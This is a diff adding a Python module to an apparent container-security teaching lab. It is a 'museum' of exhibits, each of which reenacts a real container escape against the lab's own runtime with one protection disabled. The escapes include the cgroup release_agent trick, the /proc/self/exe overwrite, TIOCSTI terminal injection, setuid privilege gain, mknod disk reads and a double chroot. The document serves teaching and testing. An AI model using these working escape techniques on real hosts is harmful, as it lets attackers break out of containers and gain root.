@@ -1,0 +1,318 @@
+"""The exhibits of the museum: each function is one way out of a container, as it was really gone.
+
+It takes the names of the locks to leave off, tries, and returns what the attacker
+got, as words; "" means that he got nothing. Its docstring is the label on the wall.
+See museum, and security.LOCKS for what each lock is.
+"""
+
+import contextlib
+import os
+import secrets
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+from labkit.container.life import Container
+from labkit.ground import ledger, state
+from labkit.ground import syscalls as sc
+from labkit.ground.child import in_child
+from labkit.ground.errors import KernelError, LabError
+from labkit.lessons.scenes.museum import (
+    LENT,
+    PYTHON,
+    alone,
+    bait,
+    closed_by_the_kernel,
+    exhibit,
+    printed,
+    python,
+    sh,
+)
+
+
+@exhibit("double chroot", "pivot_root")
+def _double_chroot(unlocked):
+    """A process keeps its working directory while it moves its root below it; `..` then never meets the root."""
+    code = (
+        "import os, sys; os.makedirs('/x', exist_ok=True); os.chroot('/x')\n"
+        "for _ in range(64): os.chdir('..')\n"
+        "os.chroot('.'); print(open(sys.argv[1]).read())"
+    )
+    with bait() as (folder, word):
+        return "read a file of the host" * (word in python(code, unlocked, folder / "secret"))
+
+
+@exhibit("sysrq and core_pattern", "read_only")
+def _kernel_files(unlocked):
+    """Most of /proc/sys is the host's: core_pattern names a program that the host runs as root."""
+    script = "for f in /proc/sysrq-trigger /proc/sys/kernel/core_pattern; do (: >>$f) 2>/dev/null && echo opened; done"
+    opened = sh(script, unlocked).count("opened")
+    return "files that command the kernel are open" * bool(opened)
+
+
+@exhibit("release_agent", "capabilities")
+def _release_agent(unlocked):
+    """A v1 hierarchy names a program which the kernel starts on the host, as root, when a cgroup empties."""
+    with bait() as (folder, word), ledger.made("hierarchy", name=f"museum-{word}"):
+        return alone(_with_hierarchy, unlocked, folder, word)
+
+
+def _with_hierarchy(unlocked, folder, word):
+    agent, proof = folder / "agent", folder / "proof"
+    agent.write_text(f"#!/bin/sh\necho {word} > {proof}\n")
+    agent.chmod(0o755)
+    try:
+        _mount_hierarchy(f"museum-{word}")
+    except KernelError:  # a kernel without v1, or told so: cgroup_no_v1=all
+        return closed_by_the_kernel if unlocked else ""
+    script = (
+        f"mkdir /c && mount -t cgroup -o none,name=museum-{word} none /c && mkdir /c/x && echo 1 > /c/x/notify_on_release"
+        f" && echo {agent} > /c/release_agent && sh -c 'echo $$ > /c/x/cgroup.procs'"
+    )
+    sh(script, unlocked)
+    deadline = time.monotonic() + 2
+    while unlocked and not proof.exists() and time.monotonic() < deadline:
+        time.sleep(0.02)
+    return "the host ran the attacker's program as root" * proof.exists()
+
+
+def _mount_hierarchy(name):
+    """Mount a v1 hierarchy without controllers, in a mount namespace of this process's own; return where."""
+    sc.unshare(sc.CLONE_NEWNS)
+    sc.mount(None, "/", None, sc.MS_REC | sc.MS_PRIVATE)
+    place = str(state.run_dir("museum"))
+    sc.mount("none", place, "cgroup", 0, f"none,name={name}")
+    return place
+
+
+def remove_hierarchy(name):
+    """End a named hierarchy: it lives as long as it has a folder or a mount. The ledger's kind `hierarchy`."""
+
+    def work():
+        place = _mount_hierarchy(name)
+        for folder in filter(Path.is_dir, Path(place).iterdir()):
+            folder.rmdir()
+        sc.umount2(place)
+
+    # A removed folder is dead a moment later, and the hierarchy goes at the next unmount after that.
+    for wait in (0, 0.3, 0.5, 1, 2):
+        deadline = time.monotonic() + wait
+        while f"name={name}:" in Path("/proc/self/cgroup").read_text():
+            if time.monotonic() > deadline:
+                in_child(work)
+                break
+            time.sleep(0.01)
+        else:
+            return
+    raise LabError(f"the cgroup hierarchy {name} does not go", f"grep -l {name} /proc/*/cgroup")
+
+
+@exhibit("mknod of the disk", "nodev", "devices")
+def _mknod(unlocked):
+    """A device node is only a kind and two numbers; who may make and open one reads the disk past every permission."""
+    from labkit.storage.drivers import loop
+
+    with bait() as (folder, word):
+        disk = folder / "disk"
+        disk.write_bytes(word.encode().ljust(1 << 20, b"\0"))
+        with loop.attached(disk) as device:
+            number = os.stat(device).st_rdev
+            script = f"mknod /disk b {os.major(number)} {os.minor(number)} && head -c 16 /disk"
+            return "read the disk" * (word in sh(script, unlocked))
+
+
+@exhibit("a mount that leaks", "private", "pivot_root")
+def _propagation(unlocked):
+    """Most hosts share their mounts: what is mounted in a copy of the mount table shows up in the other."""
+    return alone(_in_shared_namespace, unlocked)
+
+
+def _in_shared_namespace(unlocked):
+    from labkit.ground import proc
+
+    sc.unshare(sc.CLONE_NEWNS)
+    sc.mount(None, "/", None, sc.MS_REC | sc.MS_PRIVATE)
+    sc.mount(None, "/", None, sc.MS_REC | sc.MS_SHARED)
+    before = {mount.id for mount in proc.mounts()}
+    with Container("busybox", ["sleep", "30"], unlocked=unlocked).start():
+        leaked = [mount.target for mount in proc.mounts() if mount.id not in before]
+        for target in reversed(leaked):
+            sc.umount2(target, sc.MNT_DETACH)
+    return "the container's mounts are in the host's table" * bool(leaked)
+
+
+@exhibit("TIOCSTI", "session")
+def _tiocsti(unlocked):
+    """A process may push letters into its own terminal, as if typed: the shell outside reads and obeys them."""
+    return alone(_on_a_terminal, unlocked)
+
+
+def _on_a_terminal(unlocked):
+    import fcntl
+    import select
+    import signal
+    import termios
+
+    with contextlib.suppress(FileNotFoundError):
+        if Path("/proc/sys/dev/tty/legacy_tiocsti").read_text().strip() == "0":
+            return closed_by_the_kernel if unlocked else ""
+    signal.signal(signal.SIGHUP, signal.SIG_IGN)  # comes when the terminal is closed
+    os.setsid()
+    master, slave = os.openpty()
+    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
+    code = "import fcntl, termios\nfor c in b'echo owned\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))"
+    with Container("busybox", [*PYTHON, code], volumes=LENT, unlocked=unlocked).start(
+        (slave, slave, slave)
+    ) as box:
+        box.wait(30)
+    typed = select.select([slave], [], [], 0)[0] and os.read(slave, 100)
+    os.close(master)
+    return "typed a command into the host's shell" * (typed == b"echo owned\n")
+
+
+@exhibit("an open folder handed down", "close_fds")
+def _inherited(unlocked):
+    """An open file stays open over fork, namespaces, chroot and exec; a folder's fd leads to all below it."""
+
+    def work(folder):
+        fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
+        os.dup2(fd, 99)
+        return sh(f"cat /proc/self/fd/99{folder}/secret", unlocked)
+
+    with bait() as (folder, word):
+        return "read a file of the host" * (word in alone(work, folder))
+
+
+@exhibit("overwriting /proc/self/exe", "exe")
+def _exe(unlocked):
+    """A script whose interpreter is /proc/self/exe is run by the program that starts the container: the host's own."""
+    base = os.path.realpath(sys.base_prefix)
+    lent = [*LENT, *([f"{base}:{base}:ro"] if not base.startswith("/usr/") else [])]
+    with bait() as (folder, _):
+        # A copy of Python plays the host's: nothing else may be written to by anybody.
+        program = folder / "python"
+        shutil.copy(os.path.realpath(sys.executable), program)
+        (folder / "shared").mkdir()
+        (folder / "attack").write_text(_HAND_OUT)
+        (folder / "attack").chmod(0o755)
+        words = {
+            "volumes": [f"{folder}/shared:/shared", f"{folder}/attack:/attack:ro", *lent],
+            "unlocked": tuple(unlocked),
+        }
+        # The accomplice lives on when the program has ended: only then can its file be written to (ETXTBSY).
+        with Container("busybox", [*PYTHON, _WRITE], **words).start():
+            _as_program(
+                program, base, f"run('busybox', '/attack', env={{'PYTHONHOME': {base!r}}}, **{words!r})"
+            )
+            deadline = time.monotonic() + (3 if unlocked else 0.5)
+            while (owned := program.read_bytes()[:5] == b"owned") is False and time.monotonic() < deadline:
+                time.sleep(0.02)
+    return "overwrote the host's own program" * owned
+
+
+_HAND_OUT = """#!/proc/self/exe -SE
+import os, socket, time
+with socket.socket(socket.AF_UNIX) as one:
+    for _ in range(100):
+        try: one.connect("/shared/door"); break
+        except OSError: time.sleep(0.02)
+    socket.send_fds(one, [b"x"], [os.open("/proc/self/exe", os.O_RDONLY)])
+    one.recv(1)
+"""
+_WRITE = """
+import os, socket, time
+with socket.socket(socket.AF_UNIX) as door:
+    door.bind("/shared/door"); door.listen()
+    one, _ = door.accept()
+    _, (fd,), _, _ = socket.recv_fds(one, 1, 1)
+    one.close()
+while True:
+    try: os.write(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY), b"owned"); break
+    except OSError: time.sleep(0.01)
+"""
+
+
+def _as_program(program, base, code):
+    environment = os.environ | {"PYTHONHOME": base, "PYTHONPATH": str(state.REPO)}
+    command = [str(program), "-c", f"from labkit.container.life import run; {code}"]
+    subprocess.run(command, env=environment, capture_output=True, timeout=60, check=False)
+
+
+@exhibit("a setuid program", "no_new_privs")
+def _setuid(unlocked):
+    """A program with the setuid bit runs with its owner's power, whoever starts it."""
+    with bait() as (folder, _):
+        folder.chmod(0o755)
+        program = folder / "become"
+        shutil.copy(os.path.realpath("/usr/bin/python3"), program)
+        program.chmod(0o4755)
+        code = "import os; print('euid', os.geteuid())"
+        command = ["/bait/become", "-SEc", code]
+        text = printed(command, unlocked, volumes=[*LENT, f"{folder}:/bait:ro"], user="1000")
+        return "user 1000 became root" * ("euid 0" in text)
+
+
+@exhibit("reaching into another process", "pid_namespace")
+def _across(unlocked):
+    """Two processes of the same user may look into each other: memory, environment, and by /proc/PID/root the root."""
+    word = secrets.token_hex(8)
+    with Container("busybox", ["sleep", "60"], env=[f"SECRET={word}"]).start() as other:
+        (other_pid,) = [process.pid for process in other.top()]
+        got = sh(f"cat /proc/{other_pid}/environ", unlocked)
+    return "read another container's environment" * (word in got)
+
+
+@exhibit("raising one's own limit", "cgroup_read_only", "cgroup_namespace")
+def _own_limit(unlocked):
+    """A limit is a number in a file; a container that can write the file has none."""
+    script = (
+        "v1=/sys/fs/cgroup/memory$(grep -E '[:,]memory[:,]' /proc/self/cgroup | cut -d: -f3)/memory\n"
+        "v2=/sys/fs/cgroup$(grep ^0:: /proc/self/cgroup | cut -d: -f3)/memory.max\n"
+        "for f in $v1.memsw.limit_in_bytes $v1.limit_in_bytes $v2; do [ -e $f ] && echo 1073741824 > $f && cat $f; done 2>/dev/null"
+    )
+    return "gave itself 1 GB in place of 32 MB" * ("1073741824" in sh(script, unlocked, memory="32m"))
+
+
+@exhibit("the kernel's keyring", "keyring", "seccomp")
+def _keyring(unlocked):
+    """Keys are kept by the kernel and belong to a session, and no namespace wraps them."""
+    return alone(_with_a_key, unlocked)
+
+
+_KEYS = """
+import ctypes, platform
+call = ctypes.CDLL(None, use_errno=True).syscall
+add_key, keyctl = {"x86_64": (248, 250)}.get(platform.machine(), (217, 219))
+SESSION, JOIN, READ, SEARCH = -3, 1, 11, 10
+"""
+_READ_KEY = """
+key = call(keyctl, SEARCH, SESSION, b"user", b"bait", 0)
+text = ctypes.create_string_buffer(64)
+print(call(keyctl, READ, key, text, 64) > 0 and text.value.decode())
+"""
+
+
+def _with_a_key(unlocked):
+    word = secrets.token_hex(8)
+    names = {}
+    exec(_KEYS, names)  # noqa: S102 - the same lines that the attacker runs
+    names["call"](
+        names["keyctl"], names["JOIN"], None
+    )  # a session of the museum's own, gone with this process
+    names["call"](names["add_key"], b"user", b"bait", word.encode(), len(word), names["SESSION"])
+    return "read a key of the host" * (word in python(_KEYS + _READ_KEY, unlocked))
+
+
+@exhibit("a link where a mount should go", "in_root")
+def _link(unlocked):
+    """A volume holds a link to a place on the host; the next volume is to be mounted behind it."""
+    with bait() as (folder, _):
+        (folder / "shared").mkdir()
+        (folder / "host").mkdir()
+        (folder / "shared" / "link").symlink_to(folder / "host")
+        volumes = [f"{folder}/shared:/data", f"{folder}/shared:/data/link/made"]
+        with contextlib.suppress(LabError):  # with the lock on it is refused, and says so
+            sh("true", unlocked, volumes=volumes)
+        return "labkit made a folder outside the root" * (folder / "host" / "made").exists()
